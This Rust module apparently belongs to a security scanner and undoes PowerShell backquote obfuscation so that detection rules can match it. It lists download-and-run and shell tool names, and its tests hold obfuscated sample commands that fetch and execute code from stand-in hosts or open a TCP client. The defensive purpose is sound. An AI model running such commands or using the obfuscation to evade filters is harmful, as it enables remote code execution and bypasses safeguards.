//! A word of PowerShell that backquotes break → the word: ``i`ex`` is `iex`.
//!
//! Backquotes stand around code in Markdown, and around a command in a shell. Only names of PowerShell's own are put
//! together, which say more than what stands between two such marks.

/// The longest of the names, with its marks.
const LONGEST: usize = 48;

/// What rules look for, in lower case.
const NAMES: &[&[u8]] = &[
    b"iex",
    b"irm",
    b"iwr",
    b"curl",
    b"wget",
    b"bypass",
    b"hidden",
    b"encodedcommand",
    b"invoke-expression",
    b"invoke-webrequest",
    b"invoke-restmethod",
    b"invoke-command",
    b"invoke-item",
    b"start-process",
    b"start-bitstransfer",
    b"new-object",
    b"remove-item",
    b"set-content",
    b"add-content",
    b"get-content",
    b"out-file",
    b"downloadstring",
    b"downloadfile",
    b"downloaddata",
    b"webclient",
    b"sockets",
    b"tcpclient",
    b"getstream",
    b"scriptblock",
    b"frombase64string",
    b"powershell",
    b"pwsh",
    b"cmd",
    b"mshta",
    b"certutil",
    b"bitsadmin",
    b"regsvr32",
    b"rundll32",
    b"cscript",
    b"wscript",
];

/// How the word that ends `before` goes on behind the backquote that `rest` begins with, its marks left out, and how long
/// that is written; `None` where that is none of the names.
pub(super) fn rest_of_word(before: &[u8], rest: &[u8]) -> Option<(Vec<u8>, usize)> {
    let head = before.iter().rev().take(LONGEST).take_while(|b| of_name(**b) || **b == b'`').count();
    let len = rest.iter().take(LONGEST).take_while(|b| of_name(**b) || **b == b'`').count();
    let plain = |part: &[u8]| part.iter().copied().filter(|b| *b != b'`').collect::<Vec<u8>>();
    // What opens or closes the word is no part of it.
    let len = len - rest[..len].iter().rev().take_while(|b| **b == b'`').count();
    let tail = plain(&rest[..len]);
    let word = [plain(&before[before.len() - head..]), tail.clone()].concat().to_ascii_lowercase();
    (head > 0 && NAMES.contains(&&word[..])).then_some((tail, len))
}

fn of_name(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'-'
}

#[cfg(test)]
mod tests {
    use super::super::tests::{is, plain};

    #[test]
    fn a_broken_name_is_whole() {
        is("i`rm https://x.example/p | i`ex", "irm https://x.example/p | iex");
        is("IN`V`OKe-eX`PreSsIon $x", "INVOKe-eXPreSsIon $x");
        is(
            "(N`ew-Ob`ject Net.We`bClient).Down`loadStr`ing('http://a.example')",
            "(New-Object Net.WebClient).DownloadString",
        );
        is("& `i`e`x x; r''m", "& `iex x; rm");
        is("N`ew-Object Net.Sock`ets.TCP`Client('a', 1)", "New-Object Net.Sockets.TCPClient");
    }

    #[test]
    fn code_between_two_marks_and_what_a_command_prints_stay() {
        for text in ["the`rm`command", "`rm`s and `ls`es", "html`<p>`", "a`b`c", "x=`date`", "use`iex`", "`iex`"] {
            assert_eq!(plain(text.as_bytes()), None, "{text}");
        }
    }
}
